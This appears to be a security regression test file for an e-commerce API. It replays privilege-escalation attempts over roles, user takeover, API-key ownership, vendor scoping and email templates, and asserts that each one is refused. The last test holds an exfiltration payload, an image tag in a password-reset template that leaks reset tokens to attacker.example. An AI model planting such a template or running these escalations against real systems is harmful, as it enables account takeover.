import { beforeAll, describe, expect, it } from 'vitest';
import { createApiKey } from '../../src/modules/api-keys/api-keys.service';
import { placeTestOrder } from '../commerce/order-fixtures';
import { adminKey, api, createProduct, db, expectError, insertUser, insertVendor, TEST_PASSWORD, uid } from '../helpers';

/** The privilege escalations of issue 15, each tried as the attacker did, and refused. */

let admin: string;
beforeAll(async () => {
  admin = await adminKey();
});

async function roleWith(permissions: string[]) {
  const res = await api('/api/roles', { method: 'POST', key: admin, json: { name: `role-${uid()}`, permissions } });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.data as { id: string; name: string };
}

const login = (email: string, password: string) => api('/api/auth/login', { method: 'POST', json: { email, password } });

describe('roles:write cannot widen a role', () => {
  it('a key holding roles:write and products:read cannot make its own role admin', async () => {
    const role = await roleWith(['roles:write', 'products:read']);
    const { key } = await createApiKey(db(), { name: 'narrow', role: role.id });
    expectError(await api('/api/settings/api-keys', { key }), 403, 'AUTHORIZATION_ERROR');
    const widened = await api(`/api/roles/${role.id}`, { method: 'PATCH', key, json: { permissions: ['*'] } });
    expectError(widened, 403, 'AUTHORIZATION_ERROR');
    expectError(await api('/api/settings/api-keys', { key }), 403, 'AUTHORIZATION_ERROR');
    expect((await api(`/api/roles/${role.id}`, { key: admin })).body.data.permissions).toEqual(['roles:write', 'products:read']);
  });

  it('nobody changes the permissions of its own role, not even to narrow them', async () => {
    const role = await roleWith(['roles:write', 'products:read']);
    const { key } = await createApiKey(db(), { name: 'narrow', role: role.id });
    const res = await api(`/api/roles/${role.id}`, { method: 'PATCH', key, json: { permissions: ['roles:write'] } });
    expectError(res, 403, 'AUTHORIZATION_ERROR');
    expect(res.body.error.message).toMatch(/its own role/);
    // Its name and description are not permissions.
    expect((await api(`/api/roles/${role.id}`, { method: 'PATCH', key, json: { description: 'renamed' } })).status).toBe(200);
  });

  it('roles:write + users:write cannot build a harmless role, hand it out, then widen it', async () => {
    const { key } = await createApiKey(db(), { name: 'builder', permissions: ['roles:write', 'users:write'] });
    const harmless = await api('/api/roles', { method: 'POST', key, json: { name: `harmless-${uid()}`, permissions: [] } });
    expect(harmless.status).toBe(201);
    const user = await api('/api/users', { method: 'POST', key, json: { email: `h-${uid()}@example.test`, password: TEST_PASSWORD, role: harmless.body.data.id } });
    expect(user.status).toBe(201);
    expectError(await api(`/api/roles/${harmless.body.data.id}`, { method: 'PATCH', key, json: { permissions: ['*'] } }), 403, 'AUTHORIZATION_ERROR');
    expectError(await api('/api/roles', { method: 'POST', key, json: { name: `wide-${uid()}`, permissions: ['orders:read'] } }), 403, 'AUTHORIZATION_ERROR');
  });
});

describe('users:write cannot take over someone who holds more', () => {
  it('refuses a new password, a disabling, a role change and a deletion of an admin', async () => {
    const target = await insertUser({ role: 'admin' });
    const { key } = await createApiKey(db(), { name: 'people', permissions: ['users:read', 'users:write'] });
    expect((await api('/api/users?role=admin', { key })).status).toBe(200);
    const id = target.user.id;
    for (const json of [{ password: 'attacker chosen password' }, { status: 'disabled' }, { name: 'Mallory' }, { role: 'vendor' }]) {
      expectError(await api(`/api/users/${id}`, { method: 'PATCH', key, json }), 403, 'AUTHORIZATION_ERROR');
    }
    expectError(await api(`/api/users/${id}`, { method: 'DELETE', key }), 403, 'AUTHORIZATION_ERROR');
    expect((await login(target.user.email, 'attacker chosen password')).status).toBe(401);
    expect((await login(target.user.email, TEST_PASSWORD)).status).toBe(200);
  });

  it('still lets a caller who covers the user change it', async () => {
    const role = await roleWith(['products:read']);
    const target = await insertUser({ role: role.id });
    const { key } = await createApiKey(db(), { name: 'people', permissions: ['users:write', 'products:*'] });
    expect((await api(`/api/users/${target.user.id}`, { method: 'PATCH', key, json: { password: 'a brand new password' } })).status).toBe(200);
    expect((await login(target.user.email, 'a brand new password')).status).toBe(200);
    expect((await api(`/api/users/${target.user.id}`, { method: 'DELETE', key })).status).toBe(204);
  });

  it('a user cannot change its own role, even to one it covers', async () => {
    const wide = await roleWith(['users:write', 'products:*']);
    const narrow = await roleWith(['users:write']);
    const self = await insertUser({ role: wide.id });
    const res = await api(`/api/users/${self.user.id}`, { method: 'PATCH', key: self.token, json: { role: narrow.id } });
    expectError(res, 403, 'AUTHORIZATION_ERROR');
  });
});

describe('API keys do not outlive their owner', () => {
  async function ownerWithKey() {
    const role = await roleWith(['products:*', 'api-keys:write']);
    const owner = await insertUser({ role: role.id });
    const minted = await api('/api/settings/api-keys', { method: 'POST', key: owner.token, json: { name: 'mine', permissions: ['products:read'] } });
    expect(minted.status).toBe(201);
    expect(minted.body.data.ownerId).toBe(owner.user.id);
    const key = minted.body.data.key as string;
    expect((await api('/api/products?status=draft', { key })).status).toBe(200);
    return { owner, key, id: minted.body.data.id as string };
  }

  it('a disabled owner suspends its keys (401); re-enabled, they work again', async () => {
    const { owner, key } = await ownerWithKey();
    expect((await api(`/api/users/${owner.user.id}`, { method: 'PATCH', key: admin, json: { status: 'disabled' } })).status).toBe(200);
    const refused = await api('/api/products', { key });
    expectError(refused, 401, 'AUTHENTICATION_ERROR');
    expect(refused.body.error.message).toMatch(/suspended.*disabled/);
    expect((await api(`/api/users/${owner.user.id}`, { method: 'PATCH', key: admin, json: { status: 'active' } })).status).toBe(200);
    expect((await api('/api/products', { key })).status).toBe(200);
  });

  it('an owner demoted below the key suspends it', async () => {
    const { owner, key } = await ownerWithKey();
    const bare = await roleWith([]);
    expect((await api(`/api/users/${owner.user.id}`, { method: 'PATCH', key: admin, json: { role: bare.id } })).status).toBe(200);
    const refused = await api('/api/products', { key });
    expectError(refused, 401, 'AUTHENTICATION_ERROR');
    expect(refused.body.error.message).toMatch(/no longer covers/);
  });

  it("a deleted owner's keys are revoked in the same write", async () => {
    const { owner, key, id } = await ownerWithKey();
    expect((await api(`/api/users/${owner.user.id}`, { method: 'DELETE', key: admin })).status).toBe(204);
    expectError(await api('/api/products', { key }), 401, 'AUTHENTICATION_ERROR');
    const listed = await api(`/api/settings/api-keys/${id}`, { key: admin });
    expect(listed.body.data).toMatchObject({ status: 'revoked', revokedAt: expect.any(String) });
  });

  it("a key minted by a key belongs to that key's owner", async () => {
    const { owner, key } = await ownerWithKey();
    const own = await api('/api/settings/api-keys', { method: 'POST', key: owner.token, json: { name: 'minter', permissions: ['products:read', 'api-keys:write'] } });
    const child = await api('/api/settings/api-keys', { method: 'POST', key: own.body.data.key, json: { name: 'child', permissions: ['products:read'] } });
    expect(child.body.data.ownerId).toBe(owner.user.id);
    expect((await api(`/api/users/${owner.user.id}`, { method: 'PATCH', key: admin, json: { status: 'disabled' } })).status).toBe(200);
    expectError(await api('/api/products', { key: child.body.data.key }), 401, 'AUTHENTICATION_ERROR');
    expectError(await api('/api/products', { key }), 401, 'AUTHENTICATION_ERROR');
  });
});

describe('a key of the vendor role is a vendor', () => {
  it('must name an existing vendor (422)', async () => {
    const missing = await api('/api/settings/api-keys', { method: 'POST', key: admin, json: { name: 'v', role: 'vendor' } });
    expectError(missing, 422, 'VALIDATION_ERROR');
    expect(missing.body.error.details).toEqual([{ field: 'vendorId', code: 'required', message: 'vendorId is required for role vendor' }]);
    expectError(await api('/api/settings/api-keys', { method: 'POST', key: admin, json: { name: 'v', role: 'vendor', vendorId: 'vend_NOPE' } }), 422, 'VALIDATION_ERROR');
    expectError(await api('/api/settings/api-keys', { method: 'POST', key: admin, json: { name: 'v', role: 'admin', vendorId: 'vend_NOPE' } }), 422, 'VALIDATION_ERROR');
  });

  it("reaches only its own vendor's products and orders", async () => {
    const [mine, theirs] = [await insertVendor(), await insertVendor()];
    const ownProduct = await createProduct(admin, { vendorId: mine.id });
    const otherProduct = await createProduct(admin, { vendorId: theirs.id });
    const minted = await api('/api/settings/api-keys', { method: 'POST', key: admin, json: { name: 'shop', role: 'vendor', vendorId: mine.id } });
    expect(minted.body.data).toMatchObject({ role: 'vendor', vendorId: mine.id });
    const key = minted.body.data.key as string;
    expect((await api(`/api/products/${otherProduct.id}`, { method: 'PATCH', key, json: { price: 0.01 } })).status).toBe(404);
    expect((await api(`/api/products/${ownProduct.id}`, { method: 'PATCH', key, json: { price: 12 } })).status).toBe(200);
    const listed = await api('/api/products?status=active&limit=100', { key });
    expect(listed.body.data.map((p: { vendor: { id: string } }) => p.vendor.id)).toEqual(expect.arrayContaining([mine.id]));
    expect(listed.body.data.every((p: { vendor: { id: string } | null }) => p.vendor?.id === mine.id)).toBe(true);
    const theirOrder = await placeTestOrder({ key: admin, product: { vendorId: theirs.id } });
    const myOrder = await placeTestOrder({ key: admin, product: { vendorId: mine.id } });
    const orders = await api('/api/orders?limit=100', { key });
    expect(orders.body.data.map((o: { id: string }) => o.id)).toEqual([myOrder.order.id]);
    expect((await api(`/api/orders/${theirOrder.order.id}`, { key })).status).toBe(404);
  });
});

describe('notifications:write cannot redirect reset links', () => {
  it('only a caller holding * changes the password-reset template, whose links open any account', async () => {
    const { key } = await createApiKey(db(), { name: 'messages', permissions: ['notifications:*'] });
    const path = '/api/notifications/templates/tmpl_password_reset_email';
    const exfiltrate = { bodyHtml: '<img src="https://attacker.example/?t={{token}}">' };
    expectError(await api(path, { method: 'PATCH', key, json: exfiltrate }), 403, 'AUTHORIZATION_ERROR');
    expect((await api('/api/notifications/templates/tmpl_order_confirmation_email', { method: 'PATCH', key, json: { subject: 'Thanks!' } })).status).toBe(200);
    expect((await api(path, { method: 'PATCH', key: admin, json: { subject: 'Reset your password' } })).status).toBe(200);
  });
});
